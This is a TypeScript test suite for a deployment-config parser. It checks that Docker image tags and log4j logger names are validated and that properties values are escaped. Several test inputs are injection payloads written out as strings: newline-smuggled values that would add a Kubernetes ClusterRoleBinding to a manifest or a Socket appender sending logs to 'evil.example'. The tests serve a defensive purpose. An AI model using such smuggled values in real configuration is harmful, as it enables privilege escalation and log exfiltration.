// Values of a deployment config that reach generated files cannot add to them: imageTag must be a Docker tag and
// logger names Java names (the review added a ClusterRoleBinding to a manifest and a Socket appender to log4j
// properties with newlines), and every value written into a properties file is escaped as java.util.Properties reads it.
import * as assert from 'node:assert/strict';
import { parseDeployment } from '../../../server/src/deployment';
import { log4jProperties, propertiesValue } from '../../../server/src/deployment/resolve';
import { brief, HEAD } from './helpers';

const errors = (text: string) => parseDeployment(text).diagnostics.filter((d) => d.severity === 1);

/** java.util.Properties.load's reading of `text`, for what the test needs: logical lines, `\` escapes, key = value. */
function loadProperties(text: string): Map<string, string> {
  const out = new Map<string, string>();
  for (const raw of text.split(/\r\n|\r|\n/)) {
    const line = raw.replace(/^[ \t\f]+/, '');
    if (!line || line.startsWith('#') || line.startsWith('!')) continue;
    assert.ok(!/\\$/.test(line.replace(/\\\\/g, '')), `no continuation line: ${raw}`);
    const m = /^((?:[^\\=: \t\f]|\\.)+)[ \t\f]*[=:]?[ \t\f]*(.*)$/.exec(line)!;
    const unescape = (s: string) => s.replace(/\\u([0-9a-fA-F]{4})|\\(.)/g, (_, u: string, c: string) =>
      u ? String.fromCharCode(parseInt(u, 16)) : ({ n: '\n', r: '\r', t: '\t', f: '\f' } as Record<string, string>)[c] ?? c);
    out.set(unescape(m[1]), unescape(m[2]));
  }
  return out;
}

describe('no injection into generated files', () => {
  it('imageTag must be a Docker tag', () => {
    for (const bad of ['x\n---\nkind: ClusterRoleBinding', '-x', '.x', 'a b', 'a:b', 'x'.repeat(129)]) {
      const ds = errors(`${HEAD}imageTag: ${JSON.stringify(bad)}\n`);
      assert.equal(ds.length, 1, `${JSON.stringify(bad)}:\n${brief(ds)}`);
      assert.match(String(ds[0].message), /is not a Docker image tag/);
    }
    for (const good of ['2.3.0-java17', '1.20.3-scala_2.12-java17', 'latest', '_x', 'x'.repeat(128)]) assert.deepEqual(errors(`${HEAD}imageTag: ${good}\n`), [], good);
  });

  it('logger names must be Java package or class names', () => {
    const ds = errors(`${HEAD}logging:\n  loggers:\n    "x\\nappender.s.type = Socket\\nappender.s.host = evil.example": INFO\n`);
    assert.equal(ds.length, 1, brief(ds));
    assert.match(String(ds[0].message), /is not a Java package or class name/);
    for (const bad of ['a b', 'a=b', 'a#b', 'a\\b']) assert.equal(errors(`${HEAD}logging: { loggers: { ${JSON.stringify(bad)}: INFO } }\n`).length, 1, bad);
    assert.deepEqual(errors(`${HEAD}logging: { loggers: { org.apache.kafka: WARN, com.example.My$Inner: DEBUG, my-logger_1: ERROR } }\n`), []);
  });

  it('escapes every value of the log4j properties, so a name that bypassed the check adds no line', () => {
    const hostile = 'x\nappender.s.type = Socket\r\nappender.s.host = evil.example\\';
    const text = log4jProperties({ rootLevel: 'INFO', profile: 'default', loggers: { [hostile]: 'INFO', 'org.ok': 'WARN' } });
    assert.equal(text.split('\n').length, 6, text);
    const props = loadProperties(text);
    assert.deepEqual([...props.keys()], ['rootLogger.level', 'logger.custom0.name', 'logger.custom0.level', 'logger.custom1.name', 'logger.custom1.level']);
    assert.equal(props.get('logger.custom0.name'), hostile, 'read back as written');
    assert.equal(props.get('logger.custom1.name'), 'org.ok');
  });

  it('propertiesValue escapes as java.util.Properties.store does', () => {
    assert.equal(propertiesValue('a\\b\nc\rd\te\ff'), 'a\\\\b\\nc\\rd\\te\\ff');
    assert.equal(propertiesValue(' lead'), '\\ lead');
    assert.equal(propertiesValue('é\u2028'), '\\u00e9\\u2028');
    assert.equal(propertiesValue('org.apache.kafka'), 'org.apache.kafka');
  });
});
